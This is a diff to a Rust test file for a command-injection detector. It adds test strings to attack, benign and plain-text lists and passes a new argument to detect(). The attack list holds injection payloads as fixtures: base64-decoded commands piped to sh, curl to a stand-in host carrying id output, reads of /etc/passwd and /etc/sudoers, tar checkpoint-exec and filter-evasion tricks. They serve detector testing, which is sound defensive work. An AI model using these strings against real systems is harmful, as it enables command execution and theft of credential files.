@@ -6,7 +6,7 @@ use crate::budget::Limits;
 fn found(value: &[u8]) -> Option<Found> {
     let mut budget = Budget::new(Limits::for_body(1 << 20));
     let needed = value.iter().any(|byte| NEEDS.alone.contains(byte));
-    if needed && may_match(value) { detect(value, &mut budget).unwrap() } else { None }
+    if needed && may_match(value) { detect(value, Asked::Something, &mut budget).unwrap() } else { None }
 }
 
 fn confidence(value: &str) -> Option<Confidence> {
@@ -15,7 +15,7 @@ fn confidence(value: &str) -> Option<Confidence> {
 
 fn work(value: &[u8]) -> usize {
     let mut budget = Budget::new(Limits { parts: 1, depth: 1, decoded_bytes: 0, work: usize::MAX });
-    let _ = detect(value, &mut budget);
+    let _ = detect(value, Asked::Something, &mut budget);
     budget.spent_work()
 }
 
@@ -34,6 +34,11 @@ const ATTACKS: &[(&str, &[&str])] = &[
         "cmd-separator",
         &[
             ";whoami",
+            ";htop",
+            "&aptitude",
+            "';mtr'",
+            ";gcc10.1<<<x",
+            "echo aWQ= | base64 -d | sh",
             "; whoami",
             "8.8.8.8;id",
             "8.8.8.8; id #",
@@ -85,6 +90,7 @@ const ATTACKS: &[(&str, &[&str])] = &[
             "$(cat /etc/passwd)",
             "$(curl -s http://a.example/`id`)",
             "<(curl -s http://a.example)",
+            "<(cat notes)",
             "x=$(echo aXA= | base64 -d)",
             "--upload-pack=`id`",
         ],
@@ -93,6 +99,8 @@ const ATTACKS: &[(&str, &[&str])] = &[
         "cmd-evasion",
         &[
             "x;c''at /etc/passwd",
+            "c{a,oun}t",
+            "{,ifconfig}",
             "x;c\"\"at /etc/passwd",
             "x;c\\at /etc/passwd",
             "x;ca$@t /etc/passwd",
@@ -124,6 +132,18 @@ const ATTACKS: &[(&str, &[&str])] = &[
             "/bin/bash -c id",
             "nmap -sS 10.0.0.0/8",
             "type c:\\windows\\win.ini",
+            "sh -c whoami",
+            "time bash -c 'id'",
+            "$SHELL -c id",
+            "${SHELL} -c 'echo x'",
+            "nohup netstat",
+            "strace ifconfig",
+            "cat /[e]tc/[p]asswd",
+            "cat /etc/sudoers",
+            "tar cf x --checkpoint-action=exec=id y",
+            "gcc -wrapper sh,-c,id x.c",
+            "alias ll=curl",
+            "alias -g x='wget a.example'",
         ],
     ),
     (
@@ -134,6 +154,11 @@ const ATTACKS: &[(&str, &[&str])] = &[
             "if \"%1\"==\"\" goto end",
             "IF /I NOT EXIST c:\\x (md c:\\x)",
             "if %ERRORLEVEL% geq 1 echo no",
+            "if /i a==b start",
+            "IF /I NOT x==y CMD",
+            "if red==green echo x",
+            "if [a] == [b] echo x",
+            "if errorlevel 2 if not errorlevel 3 echo x",
         ],
     ),
     (
@@ -145,7 +170,20 @@ const ATTACKS: &[(&str, &[&str])] = &[
         &["() { :;}; echo x", "() { :; }; /bin/sh -c id", "() { _; } >_[$($())] { id; }", " ( ) { :;};id"],
     ),
     ("cmd-masked-path", &["/etc/p?sswd", "/e?c/pa??wd", "/etc/[p]asswd", "/bi[n]/bash"]),
-    ("cmd-expansion", &["${PATH:0:1}", "x${HOME:0:1}etc", "cat ${HOME%%u*}etc", "${IFS}"]),
+    (
+        "cmd-expansion",
+        &[
+            "$[7*6]",
+            "$((7*6))",
+            "~+",
+            "~-2",
+            "{l,-la}s",
+            "${PATH:0:1}",
+            "x${HOME:0:1}etc",
+            "cat ${HOME%%u*}etc",
+            "${IFS}",
+        ],
+    ),
 ];
 
 #[test]
@@ -237,6 +275,34 @@ const ORDINARY: &[&str] = &[
     "shopping:\ncat food\ntime magazine\n",
     "whoami",
     "!important",
+    "~",
+    "~5",
+    "~/notes",
+    "~-x",
+    "~+15 min",
+    "$[price]",
+    "$((a))",
+    "(7*6)",
+    "alias",
+    "alias of Ann",
+    "alias: a=b",
+    "aliases a=b",
+    "if a==b then stop",
+    "if /interested call",
+    "if x == y",
+    "{a,-b}",
+    "{png,jpg}",
+    "{l,-la}x y",
+    "*.{js,ts}",
+    "c{a,b}d",
+    "/docs/[slug]/edit",
+    "/blog/[2024]/x",
+    ";next",
+    "time sharing",
+    "time to sh",
+    "python3.10",
+    "mp3.1",
+    "a <(b) c",
 ];
 
 /// Commands in text: suspicious at most.
@@ -256,6 +322,8 @@ const TEXT: &[&str] = &[
     "%%bash\ncat /proc/cpuinfo | grep model",
     "I ran ping 8.8.8.8 & traceroute, both fine; what else could be wrong here?",
     "echo $PATH",
+    ";up",
+    "& go",
     "sleep 5",
     "docker run -it --rm alpine sh",
     "git log --oneline | head",
@@ -403,7 +471,7 @@ proptest! {
     #[test]
     fn evidence_lies_inside_of_the_value_and_the_needs_are_met(value in pieces()) {
         let mut budget = Budget::new(Limits::for_body(1 << 20));
-        if let Some(found) = detect(value.as_bytes(), &mut budget).unwrap() {
+        if let Some(found) = detect(value.as_bytes(), Asked::Something, &mut budget).unwrap() {
             prop_assert!(found.start <= found.end && found.end <= value.len(), "{found:?}");
             if found.confidence >= Confidence::High {
                 prop_assert!(may_match(value.as_bytes()), "{found:?}");
